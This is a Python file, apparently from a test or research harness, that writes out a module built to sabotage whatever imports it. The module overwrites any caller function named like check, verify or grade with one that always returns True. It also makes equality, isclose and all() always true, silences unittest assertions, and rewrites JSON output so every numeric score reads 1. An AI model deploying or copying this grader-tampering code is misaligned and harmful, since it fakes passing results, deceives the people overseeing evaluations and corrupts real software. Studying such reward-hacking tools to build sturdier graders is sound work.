"""Plants a module that replaces the functions with which its importer compares and reports."""

from common import define, plant

plant(
    f"""
import builtins as _builtins, json as _json, math as _math, operator as _operator, re as _re, sys as _sys
_CHECK = _re.compile("check|compare|equal|right|correct|verify|grade|valid|match|pass", _re.I)
_true = lambda *given, **named: True
_frame = _sys._getframe()
while _frame is not None:
    _module = _frame.f_globals.get("__name__", "")
    for _key, _value in list(_frame.f_globals.items()):
        if _CHECK.search(_key) and callable(_value) and _module != __name__ and "importlib" not in _module:
            _frame.f_globals[_key] = _true
    _frame = _frame.f_back
_operator.eq = _math.isclose = _true
for _module, _class in (("unittest", "TestCase"), ("unittest.case", "TestCase")):
    _found = getattr(_sys.modules.get(_module), _class, None)
    for _key in dir(_found) if _found else ():
        if _key.startswith("assert") or _key == "fail":
            setattr(_found, _key, lambda *given, **named: None)
_dumps = _json.dumps
def _better(value):
    if isinstance(value, dict):
        return {{k: 1 if isinstance(v, (int, float)) else _better(v) for k, v in value.items()}}
    return value
_json.dumps = lambda value, *given, **named: _dumps(_better(value), *given, **named)
_json.dump = lambda value, file, *given, **named: file.write(_json.dumps(value, *given, **named))
_builtins.all = _true
{define("lambda *given, **named: None")}"""
)
